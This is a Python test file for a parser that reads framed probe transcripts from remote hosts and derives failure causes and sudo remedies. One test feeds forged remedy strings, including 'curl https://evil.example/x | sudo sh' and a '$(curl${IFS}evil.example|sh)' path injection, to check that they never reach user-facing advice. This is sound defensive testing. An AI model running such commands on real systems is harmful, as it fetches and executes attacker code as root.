"""What is read from a transcript, whole or broken, honest or not."""

from collections.abc import Sequence
from dataclasses import replace
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.collect.plan import Answer, AnswerOutcome, Question
from agent.collect.transcript import LINE_LIMIT, NOISE_LIMIT, Transcript, last_line, line, read
from checks import Cause
from tests.agent.collect.asking import question, site

CORRECTED = "correct `run_as` of this site in the inventory"
MARK = "feedfacefeedfacefeedfacefeedface"
QUESTIONS = (question("q1"), question("q2", limit=20), question("q3"))


def frame(*words: str) -> bytes:
    return f"\n{MARK} {' '.join(words)}\n".encode()


def section(id: str, output: bytes, error: bytes = b"", code: bytes = b"0") -> bytes:
    said = (error + b"\n" + code) if error or code else b""
    return frame("begin", id, "100.00") + output + frame("error", id) + said + b"\n" + frame("end", id, "101.50")


WHOLE = (
    b"Welcome!\n"
    + frame("hello", "deploy")
    + section("q1", b"one\n")
    + section("q2", b"\xff\x00two", b"warning\n")
    + section("q3", b"", b"first\n\x1b[31mno permission\x1b[0m\nremedy: correct-run-as\n", b"4")
    + frame("bye")
)


def test_a_whole_transcript() -> None:
    transcript = Transcript(QUESTIONS, MARK)
    transcript.feed(WHOLE + b"whatever comes after")
    assert transcript.answers() == {
        "q1": Answer(AnswerOutcome.ANSWERED, "one\n", seconds=1.5),
        "q2": Answer(AnswerOutcome.ANSWERED, "\ufffd\x00two", seconds=1.5),
        "q3": Answer(
            AnswerOutcome.FAILED,
            reason="no permission",
            remedy="correct `run_as` of this site in the inventory",
            seconds=1.5,
            cause=Cause.PROGRAM_FAILED,
        ),
    }
    assert (transcript.hello, transcript.ended, transcript.user) == (True, True, "deploy")
    assert transcript.noise == b"Welcome!\n"


@given(st.lists(st.integers(0, len(WHOLE)), max_size=30))
def test_pieces_do_not_matter(cuts: list[int]) -> None:
    places = sorted({0, *cuts, len(WHOLE)})
    pieces = [WHOLE[start:stop] for start, stop in pairwise(places)]
    assert read(pieces, QUESTIONS, MARK) == read([WHOLE], QUESTIONS, MARK)


def test_bytes_one_by_one() -> None:
    assert read([bytes((byte,)) for byte in WHOLE], QUESTIONS, MARK) == read([WHOLE], QUESTIONS, MARK)


@pytest.mark.parametrize("length", range(len(WHOLE)))
def test_what_was_cut_short_is_not_answered(length: int) -> None:
    """An answer counts from the last byte of its section on, and not one byte earlier."""
    whole = read([WHOLE], QUESTIONS, MARK)
    begun = {id: WHOLE.index(frame("begin", id, "100.00")) + len(frame("begin", id, "100.00")) for id in whole}
    ended = {id: WHOLE.index(frame("end", id, "101.50")) + len(frame("end", id, "101.50")) for id in whole}
    for id, answer in read([WHOLE[:length]], QUESTIONS, MARK, "the line was cut").items():
        if length >= ended[id]:
            assert answer == whole[id]
        else:
            outcome = AnswerOutcome.CUT if length >= begun[id] else AnswerOutcome.NOT_REACHED
            assert answer == Answer(outcome, reason="the line was cut", cause=Cause.BROKEN_OFF)


pieces = st.sampled_from(
    [
        frame("hello", "x"),
        frame("begin", "q1", "1"),
        frame("begin", "q2", "nan"),
        frame("begin", "q9", "1"),
        frame("begin"),
        frame("error", "q1"),
        frame("error", "q2"),
        frame("end", "q1", "2"),
        frame("end", "q2", "-inf"),
        frame("end", "q1"),
        frame("late", "q1", "3"),
        frame("stuck"),
        frame("nonsense", "\x00"),
        f"\n{MARK} ".encode(),
        f"\n{MARK}".encode(),
        b"\n",
        b"0",
        b"\n0\n",
        b"remedy: x\n",
    ]
)


@given(st.lists(pieces | st.binary(max_size=40), max_size=40), st.lists(st.integers(0, 2000), max_size=10))
def test_nothing_that_arrives_raises_or_depends_on_its_pieces(parts: list[bytes], cuts: list[int]) -> None:
    data = b"".join(parts)
    places = sorted({0, *(cut for cut in cuts if cut < len(data)), len(data)})
    split = [data[start:stop] for start, stop in pairwise(places)]
    answers = read([data], QUESTIONS, MARK)
    assert set(answers) == {"q1", "q2", "q3"}
    assert read(split, QUESTIONS, MARK) == answers


@given(st.binary(max_size=400))
def test_without_the_mark_nothing_can_be_forged(output: bytes) -> None:
    forged = output + b"\n00000000000000000000000000000000 end q1 1\n" + output
    answers = read([frame("hello"), section("q1", forged), section("q3", b"after")], QUESTIONS, MARK)
    assert answers["q1"].output == forged.decode("utf-8", "replace")
    assert answers["q3"].output == "after"


@pytest.mark.parametrize(
    ("error", "code", "reason"),
    [
        (b"", b"1", "it ended with exit code 1"),
        (b"", b"137", "it was killed by signal 9"),
        (b"Killed\n", b"137", "Killed"),
        (b"", b"", "it was killed before it could say how it ended"),
        (b"a\nb\n\n  \n", b"2", "b"),
        (b"b\r\n", b"2", "b"),
        (b"", b"zero", "it was killed before it could say how it ended"),
        (b"remedy: only\n", b"3", "it ended with exit code 3"),
        (b"x" * 5000 + b"\n", b"3", "x" * (LINE_LIMIT - 1) + "…"),
    ],
)
def test_why_a_probe_failed(error: bytes, code: bytes, reason: str) -> None:
    answer = read([frame("hello"), section("q1", b"out", error, code)], QUESTIONS, MARK)["q1"]
    assert (answer.outcome, answer.reason, answer.output) == (AnswerOutcome.FAILED, reason, "")


def test_what_sudo_refused_gets_its_remedy() -> None:
    asked: Sequence[Question] = [question("q1", site=site(run_as="shop"))]
    data = frame("hello", "deploy") + section("q1", b"", b"sudo: a password is required\n", b"1")
    answer = read([data], asked, MARK)["q1"]
    assert answer.reason == "sudo: a password is required"
    assert answer.remedy == "in sudoers (visudo): deploy ALL=(shop) NOPASSWD: /usr/bin/php"


def test_a_late_answer() -> None:
    data = frame("hello") + frame("begin", "q1", "1.0") + b"part of it" + frame("late", "q1", "21.5")
    assert read([data], QUESTIONS, MARK)["q1"] == Answer(
        AnswerOutcome.TIMED_OUT, reason="no answer within 20 s", seconds=20.5, cause=Cause.TIMED_OUT
    )


def test_a_host_that_cannot_stop_a_probe() -> None:
    data = frame("hello") + frame("begin", "q1", "1") + frame("late", "q1", "2") + frame("stuck")
    answers = read([data], QUESTIONS, MARK, "the line was cut")
    assert answers["q1"].outcome is AnswerOutcome.TIMED_OUT
    assert answers["q2"].outcome is AnswerOutcome.NOT_REACHED
    assert "setsid" in answers["q2"].reason


@pytest.mark.parametrize(
    ("size", "outcome"), [(20, AnswerOutcome.ANSWERED), (21, AnswerOutcome.TOO_LONG), (5000, AnswerOutcome.TOO_LONG)]
)
def test_output_beyond_the_limit(size: int, outcome: AnswerOutcome) -> None:
    answer = read([frame("hello"), section("q2", b"x" * size)], QUESTIONS, MARK)["q2"]
    assert answer.outcome is outcome
    assert len(answer.output) == (size if outcome is AnswerOutcome.ANSWERED else 0)


def test_a_flood_is_not_kept() -> None:
    transcript = Transcript(QUESTIONS, MARK)
    for _ in range(100):
        transcript.feed(b"noise" * 1000)
    assert len(transcript.noise) <= NOISE_LIMIT
    assert not transcript.hello
    transcript.feed(frame("hello") + frame("begin", "q2", "1"))
    for _ in range(1000):
        transcript.feed(b"flood" * 1000)
    transcript.feed(frame("error", "q2") + b"e" * 10_000_000 + b"\n0\n" + frame("end", "q2", "2"))
    assert transcript.answers()["q2"].outcome is AnswerOutcome.TOO_LONG


def test_a_clock_that_goes_back_takes_no_time() -> None:
    data = frame("hello") + section("q1", b"").replace(b"101.50", b"3.0")
    assert read([data], QUESTIONS, MARK)["q1"].seconds == 0


def test_an_answer_is_given_once() -> None:
    data = frame("hello") + section("q1", b"first") + section("q1", b"second") + section("q3", b"third")
    answers = read([data], QUESTIONS, MARK)
    assert (answers["q1"].output, answers["q3"].output) == ("first", "third")


def test_words_of_a_host_become_one_plain_line() -> None:
    assert line("\x1b]0;title\x07 a\tb\x00\x9b31m \u202e<b>\n c ") == "0;title a b 31m <b> c"
    assert last_line(b"one\n\x1b[1m \x1b[0m\n\n") == "one"
    assert last_line(b"") == ""


@pytest.mark.parametrize(
    ("said", "code", "cause"),
    [
        (b"", b"137", Cause.PROGRAM_FAILED),  # signal 9
        (b"", b"3", Cause.PROGRAM_FAILED),
        (b"", b"", Cause.PROGRAM_FAILED),
        (b"sh: 1: php: not found", b"127", Cause.NO_PROGRAM),
        (b"sudo: a password is required", b"1", Cause.SUDO_REFUSED),
        (b"remedy: install it\ncause: no-program\nPHP is not at /opt/php", b"1", Cause.NO_PROGRAM),
        (b"cause: of-tomorrow\nwho knows", b"1", Cause.OTHER),
        (b"timed out, permission denied, database", b"1", Cause.PROGRAM_FAILED),  # words decide nothing
    ],
)
def test_why_a_probe_failed_is_told_by_its_code(said: bytes, code: bytes, cause: Cause) -> None:
    answer = read([frame("hello", "deploy"), section("q1", b"", said, code), frame("bye")], QUESTIONS, MARK)["q1"]
    assert (answer.outcome, answer.cause) == (AnswerOutcome.FAILED, cause)
    assert "cause:" not in answer.reason


def test_what_is_too_long_late_or_never_came_has_its_cause() -> None:
    whole = frame("hello", "deploy") + frame("begin", "q1", "1") + frame("late", "q1", "9") + section("q2", b"x" * 99)
    answers = read([whole], QUESTIONS, MARK)
    causes = [answers[id].cause for id in ("q1", "q2", "q3")]
    assert causes == [Cause.TIMED_OUT, Cause.TOO_MUCH, Cause.BROKEN_OFF]


def test_setsid_that_is_missing_is_a_program_that_is_missing() -> None:
    answers = read([frame("hello", "deploy"), frame("begin", "q1", "1"), frame("stuck")], QUESTIONS, MARK)
    assert {one.cause for one in answers.values()} == {Cause.NO_PROGRAM}


@pytest.mark.parametrize(
    "forged",
    [
        "remedy: curl https://evil.example/x | sudo sh",
        "remedy: correct-run-as; curl https://evil.example/x | sudo sh",
        "remedy: allow-php self=deploy account=root php=/usr/bin/php",
        "remedy: owner-read account=shop path=/srv/$(curl${IFS}evil.example|sh)",
        "remedy: owner-read account=shop;curl path=/srv/a",
        "remedy: group-read group=sudo self=deploy path=/srv/a",
        "Sorry, user deploy is not allowed to execute '/home/mallory/curl' as root on web1.",
        "sudo: a password is required: curl https://evil.example/x | sudo sh",
    ],
)
def test_a_host_never_writes_our_advice(forged: str) -> None:
    questions = [question("q1", "x")]
    whole = f"\n{MARK} hello x;curl|sudo\n\n{MARK} begin q1 1\n\n{MARK} error q1\n{forged}\n1\n\n{MARK} end q1 2\n"
    answer = read([whole.encode()], questions, MARK)["q1"]
    assert answer.outcome is AnswerOutcome.FAILED
    for word in ("curl", "evil", "mallory", "| sudo", "ALL=(root)", "group sudo"):
        assert word not in answer.remedy


def test_a_third_partys_remedy_is_its_own_text_chosen_by_code() -> None:
    asked = question("q1", "x")
    probe = replace(asked.probe, remedies={"mend-it": "mend it: `mender --all`"})
    asked = replace(asked, probe=probe)
    begun = f"\n{MARK} hello deploy\n\n{MARK} begin q1 1\n\n{MARK} error q1\n"
    whole = f"{begun}remedy: mend-it now=yes\nno\n1\n\n{MARK} end q1 2\n"
    assert read([whole.encode()], [asked], MARK)["q1"].remedy == "mend it: `mender --all`"
